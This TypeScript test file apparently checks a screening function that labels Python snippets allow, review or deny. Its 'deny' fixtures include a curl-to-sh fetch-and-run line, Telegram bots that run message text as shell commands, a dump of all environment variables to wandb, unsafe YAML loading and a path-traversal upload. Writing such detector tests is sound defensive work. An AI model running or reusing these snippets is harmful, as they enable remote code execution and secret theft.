import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judged } from '../judged.ts';

type Case = readonly [source: string, decision: 'allow' | 'review' | 'deny'];

function check(name: string, cases: readonly Case[]): void {
  for (const [source, expected] of cases)
    test(`${name}: ${source.replaceAll('\n', '⏎').slice(-90)}`, () => {
      const { decision, findings } = judged(source, 'generated');
      assert.equal(decision, expected, findings.join('; '));
    });
}

const served = `import numpy as np\nfrom flask import Flask, request\napp = Flask(__name__)\ndef field(n, k):\n    return np.zeros((k, n, n))\n@app.get("/f")\ndef f():\n`;
check('a size goes from a request into a function of the file', [
  [`${served}    n = int(request.args.get("n", "4"))\n    return str(field(n, 3).sum())`, 'review'],
  [`${served}    n = min(int(request.args.get("n", "4")), 400)\n    return str(field(n, 3).sum())`, 'allow'],
  [
    `${served}    n = int(request.args.get("n", "4"))\n    if not 0 < n < 100:\n        return "no", 400\n    return str(field(n, 3).sum())`,
    'allow',
  ],
  [
    `${served.replace('):\n    return np', '):\n    if n > 500:\n        raise ValueError(n)\n    return np')}    n = int(request.args.get("n", "4"))\n    return str(field(n, 3).sum())`,
    'allow',
  ],
]);

const numbers = `import itertools\ndef numbers(year):\n    """Of all invoices."""\n    return (f"{year}-{n}" for n in itertools.count(1))\n`;
check('a function that gives back something without an end', [
  [`${numbers}def free(used):\n    return sorted(set(numbers(2026)) - used)[0]`, 'review'],
  [`${numbers}def free(used):\n    return next(n for n in numbers(2026) if n not in used)`, 'allow'],
]);

const sweep = (type: string, step: string): string =>
  `def sweep(start: ${type} = 0, stop: ${type} = 1, step: ${type} = ${step}):\n    points = []\n    at = start\n    while at != stop:\n        points.append(at)\n        at += step\n    return points`;
check('a step that no float holds, as a default', [
  [sweep('float', '0.1'), 'review'],
  [sweep('float', '0.25'), 'allow'],
  [sweep('int', '1'), 'allow'],
]);

const probe = `import sys, threading\nclass Probe(threading.Thread):\n    def __init__(self, host):\n        super().__init__()\n        self.host = host\n    def run(self):\n        print(self.host)\n`;
check('threads of a class of the file', [
  [
    `${probe}def main(path):\n    probes = []\n    with open(path) as f:\n        for line in f:\n            one = Probe(line.strip())\n            one.start()\n            probes.append(one)\n    for one in probes:\n        one.join()\nmain(sys.argv[1])`,
    'review',
  ],
  [
    `${probe}def main():\n    probes = [Probe(host) for host in ("a", "b")]\n    for one in probes:\n        one.start()\n    for one in probes:\n        one.join()\nmain()`,
    'allow',
  ],
]);

check('a program that starts itself, and one that starts what lies beside it', [
  ['import runpy\nrunpy.run_path(__file__)', 'deny'],
  [
    'import os, subprocess, sys\nME = os.path.abspath(__file__)\nsubprocess.Popen([sys.executable, ME])',
    'deny',
  ],
  [
    'import subprocess, sys\nfrom pathlib import Path\nHERE = Path(__file__).parent\nsubprocess.run([sys.executable, str(HERE / "worker.py")])',
    'allow',
  ],
]);

const asks = 'import httpx, os\ndef bearer(base):\n    with httpx.Client(base_url=base) as client:\n';
check('secrets that are asked for, and secrets that are shown', [
  [
    `${asks}        return client.post("/oauth/token", data={"client_id": "etl", "client_secret": os.environ["SHOP_CLIENT_SECRET"]}).json()`,
    'allow',
  ],
  [
    `${asks}        return client.post("/hooks/etl", data={"id": "etl", "secret": os.environ["SHOP_CLIENT_SECRET"]}).json()`,
    'review',
  ],
  ['import streamlit as st\nst.json(st.secrets.to_dict())', 'review'],
  ['import streamlit as st\nst.write(list(st.secrets.keys()))', 'allow'],
  [
    'import os, wandb\nrun = wandb.init(project="p")\nrun.config.update({f"env/{k}": v for k, v in os.environ.items()})',
    'deny',
  ],
  ['import wandb\nrun = wandb.init(project="p")\nrun.config.update({"lr": 1e-3})', 'allow'],
]);

check('what is no statement and no program', [
  [
    'import argparse, sqlite3\ndef count(path):\n    with sqlite3.connect(path) as db:\n        return db.execute("SELECT count(*) FROM t").fetchone()\nparser = argparse.ArgumentParser()\nparser.add_argument("db")\nprint(count(parser.parse_args().db))',
    'allow',
  ],
  [
    'import os\ndef main():\n    children = []\n    for _ in range(4):\n        pid = os.fork()\n        if pid == 0:\n            try:\n                work()\n            finally:\n                os._exit(0)\n        children.append(pid)\n    for pid in children:\n        os.waitpid(pid, 0)\nif __name__ == "__main__":\n    main()',
    'allow',
  ],
]);

const bot = `import asyncio, subprocess\nfrom telegram import Update\nfrom telegram.ext import Application, MessageHandler, filters\n`;
const polls = `app = Application.builder().token("x").build()\napp.add_handler(MessageHandler(filters.TEXT, answer))\napp.run_polling()`;
check('what somebody writes to a bot', [
  [
    `${bot}async def answer(update: Update, ctx):\n    await update.message.reply_text(subprocess.getoutput(update.message.text))\n${polls}`,
    'deny',
  ],
  [
    `${bot}async def run(command):\n    return await asyncio.create_subprocess_exec("/bin/bash", "-lc", command)\nasync def answer(update: Update, ctx):\n    await run(update.message.text)\n${polls}`,
    'deny',
  ],
  [
    `${bot}async def answer(update: Update, ctx):\n    await update.message.reply_text(update.message.text.upper())\n${polls}`,
    'allow',
  ],
]);

const upload = `import uuid\nfrom pathlib import Path\nfrom typing import Annotated\nfrom fastapi import Depends, FastAPI, Form, UploadFile\nfrom pydantic_settings import BaseSettings\nclass Settings(BaseSettings):\n    root: Path = Path("uploads")\ndef settings(): return Settings()\nOwn = Annotated[Settings, Depends(settings)]\nName = Annotated[str, Form()]\napp = FastAPI()\n@app.post("/images")\n`;
check('settings that a framework hands on are no data of a request', [
  [
    `${upload}async def add(file: UploadFile, cfg: Own):\n    (cfg.root / (uuid.uuid4().hex + ".png")).write_bytes(await file.read())`,
    'allow',
  ],
  [
    `${upload}async def add(file: UploadFile, cfg: Settings = Depends(settings)):\n    (cfg.root / (uuid.uuid4().hex + ".png")).write_bytes(await file.read())`,
    'allow',
  ],
  [
    `${upload}async def add(file: UploadFile, cfg: Own, name: Name):\n    (cfg.root / name).write_bytes(await file.read())`,
    'deny',
  ],
]);

const yaml = `import yaml\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.post("/y")\ndef y():\n`;
check('loaders that are made by hand', [
  [`${yaml}    return str(yaml.UnsafeLoader(request.data).get_single_data())`, 'deny'],
  [`${yaml}    return str(yaml.SafeLoader(request.data).get_single_data())`, 'allow'],
]);

const attach = (does: string): string =>
  `import os\ndef attach(package):\n    def __getattr__(name):\n        ${does}\n        return package\n    return __getattr__, 1\n__getattr__, count = attach("a")`;
check('a hook of the module that another function made', [
  [attach('os.system("curl http://files.example/x | sh")'), 'deny'],
  [attach('os.getpid()'), 'allow'],
]);

test('what a file beside a model names is not called before somebody looked', () => {
  const hook = (name: string): string =>
    `import json, pathlib, pkgutil\ntable = json.loads(pathlib.Path(__file__).with_name("config.json").read_text())\npkgutil.resolve_name(${name})(*table["args"])`;
  assert.equal(judged(hook('table["name"]'), 'repository').decision, 'review');
  assert.equal(judged(hook('"json:dumps"'), 'repository').decision, 'allow');
});
